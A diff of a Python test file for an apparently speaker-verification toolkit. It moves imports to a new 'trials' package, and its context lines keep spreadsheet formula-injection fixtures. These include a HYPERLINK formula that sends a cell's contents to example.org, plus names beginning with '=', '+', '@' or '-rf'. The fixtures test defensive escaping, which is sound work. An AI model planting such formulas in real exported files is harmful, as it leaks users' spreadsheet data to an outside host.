@@ -19,7 +19,7 @@ from xvectors.corpus.table import Table, protected, restored, write_table
 from xvectors.report import score_files
 from xvectors.report.outputs import write_scores
 from xvectors.report.score_files import read_scores
-from xvectors.scoring import Trials, read_trials, write_trials
+from xvectors.trials import Trials, read_trials, write_trials
 
 LINK = '=HYPERLINK("http://example.org/?"&A1,"open")'
 NAMES = (LINK, "-5", "+a", "@x", "'quoted'", "'=a", "''+b", "-rf", "=", "\N{FULLWIDTH EQUALS SIGN}1", "ann")
@@ -133,8 +133,8 @@ def test_trials_and_scores_keep_their_names(in_bulk: bool, tmp_path: Path, monke
 
 def test_large_score_files_with_commas_alone_are_read_in_bulk_still(tmp_path: Path) -> None:
     """Names with an apostrophe that protects nothing are no reason to read line by line."""
-    from xvectors.report.score_bulk import Irregular, read_bulk
-    from xvectors.report.score_lines import form_of
+    from xvectors.trials.score_bulk import Irregular, read_bulk
+    from xvectors.trials.score_lines import form_of
 
     plain, hostile = tmp_path / "plain.csv", tmp_path / "hostile.csv"
     plain.write_text("enroll,test,score,target\n'quoted',o'neil,-1.5,1\n")
